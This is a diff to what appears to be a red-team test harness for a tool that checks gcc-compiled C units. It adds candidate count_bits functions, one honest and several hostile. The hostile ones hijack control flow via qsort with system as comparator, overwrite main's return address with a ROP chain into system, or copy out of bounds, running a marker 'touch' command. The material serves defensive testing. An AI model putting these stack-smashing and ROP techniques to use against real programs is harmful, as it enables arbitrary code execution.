@@ -21,6 +21,8 @@ from sgcc.asm.units import parse_file
 HERE = Path(__file__).resolve().parent / "redteam"
 STACKBITS = HERE / "stackbits.c"
 STACKBITS_TESTS = HERE / "stackbits-tests"
+SORTBITS = HERE / "sortbits.c"
+SORTBITS_TESTS = HERE / "sortbits-tests"
 
 SWAR = r"""
 static inline unsigned long swar(unsigned long x)
@@ -161,6 +163,89 @@ long count_bits(const unsigned long *a, int n)
 }
 
 
+#: sortbits's count_bits (issue 43) as its candidates begin: the same copy and sort as gcc's.
+SORT_HEAD = r"""
+#include <stdlib.h>
+#include <string.h>
+static int cmp(const void *x, const void *y)
+{
+    unsigned long a = *(const unsigned long *)x, b = *(const unsigned long *)y;
+    return (a > b) - (a < b);
+}
+""" + SWAR
+SORT_COUNT = ("    long c = 0;\n    for (int i = 0; i < n; i++)\n        c += swar(buf[i]);\n"
+              "    c += (long)(buf[0] & 1);\n")
+COPY_SORT = "    memcpy(buf, src, (size_t)n * sizeof *buf);\n    qsort(buf, n < 16 ? (size_t)n : 16, sizeof *buf, cmp);\n"
+SORT_ATTACKS = {
+    "sort_honest": SORT_HEAD + r"""
+long count_bits(unsigned long *buf, const unsigned long *src, int n)
+{
+""" + COPY_SORT + SORT_COUNT + r"""    return c;
+}
+""",
+    # Issue 43: outside the box only, qsort with system as the comparator (found from main's
+    # return address) and a shell command as the array: system(buf) runs it.
+    "qsort_system": SORT_HEAD + OUTSIDE + RETURN_SLOT
+    + r"""
+long count_bits(unsigned long *buf, const unsigned long *src, int n)
+{
+""" + COPY_SORT + SORT_COUNT + r"""    if (outside(buf, n)) {
+        unsigned long *slot = return_slot(buf, n);
+        if (slot) {
+            const char text[] = "touch " PWNED_FILE;
+            char *cmd = (char *)(buf + 1000);
+            for (unsigned i = 0; i < sizeof text; i++)
+                cmd[i] = text[i];
+            qsort(cmd, 2, 64, (int (*)(const void *, const void *))(slot[0] - RA_OFFSET + SYSTEM));
+        }
+    }
+    return c;
+}
+""",
+    # Issue 43: outside only, memcpy with a length gcc never passes, onto main's return
+    # address: a chain into system.
+    "memcpy_over_ra": SORT_HEAD + OUTSIDE + RETURN_SLOT + r"""
+long count_bits(unsigned long *buf, const unsigned long *src, int n)
+{
+""" + COPY_SORT + SORT_COUNT + r"""    if (outside(buf, n)) {
+        unsigned long *slot = return_slot(buf, n);
+        if (slot) {
+            unsigned long libc = slot[0] - RA_OFFSET, *chain = buf + 1016;
+            const char text[] = "touch " PWNED_FILE;
+            char *cmd = (char *)(buf + 1000);
+            for (unsigned i = 0; i < sizeof text; i++)
+                cmd[i] = text[i];
+            chain[0] = libc + RET_GADGET; chain[1] = libc + POP_RDI; chain[2] = (unsigned long)cmd;
+            chain[3] = libc + SYSTEM; chain[4] = libc + POP_RDI; chain[5] = 0; chain[6] = libc + EXIT;
+            memcpy(slot, chain, 7 * sizeof *chain);
+        }
+    }
+    return c;
+}
+""",
+    # A memcpy of a length gcc never passes, in every run (into the unused end of main's buffer).
+    "memcpy_len": SORT_HEAD + r"""
+long count_bits(unsigned long *buf, const unsigned long *src, int n)
+{
+    memcpy(buf, src, (size_t)(n + 4) * sizeof *buf);
+    qsort(buf, n < 16 ? (size_t)n : 16, sizeof *buf, cmp);
+""" + SORT_COUNT + r"""    return c;
+}
+""",
+    # A comparator loaded from data (in every run): refused before it runs.
+    "qsort_computed": SORT_HEAD + r"""
+long count_bits(unsigned long *buf, const unsigned long *src, int n)
+{
+    memcpy(buf, src, (size_t)n * sizeof *buf);
+    ((volatile unsigned long *)buf)[1023] = (unsigned long)&cmp;  /* through memory: data now */
+    unsigned long f = ((volatile unsigned long *)buf)[1023];
+    qsort(buf, n < 16 ? (size_t)n : 16, sizeof *buf, (int (*)(const void *, const void *))f);
+""" + SORT_COUNT + r"""    return c;
+}
+""",
+}
+
+
 def libc_offsets(work: Path) -> dict[str, int]:
     """Offsets in this machine's C library that the chain needs: main's return address, a
     ``pop %rdi; ret`` and a ``ret`` gadget, ``system`` and ``exit`` (read from the library
@@ -194,7 +279,7 @@ def unit(name: str, work: Path, function: str = "count_bits", defines: dict | No
     """The candidate unit of attack ``name``: its C compiled by gcc -O2, the function's unit text."""
     work.mkdir(parents=True, exist_ok=True)
     src = work / f"{name}.c"
-    src.write_text(HONEST if name == "honest" else ATTACKS[name])
+    src.write_text(HONEST if name == "honest" else ATTACKS[name] if name in ATTACKS else SORT_ATTACKS[name])
     asm = work / f"{name}.s"
     flags = [f"-D{k}={v:#x}" if isinstance(v, int) else f"-D{k}={v}" for k, v in (defines or {}).items()]
     # gcc's count_bits leaves %r8-%r11 alone and main relies on it (-fipa-ra): so do these.
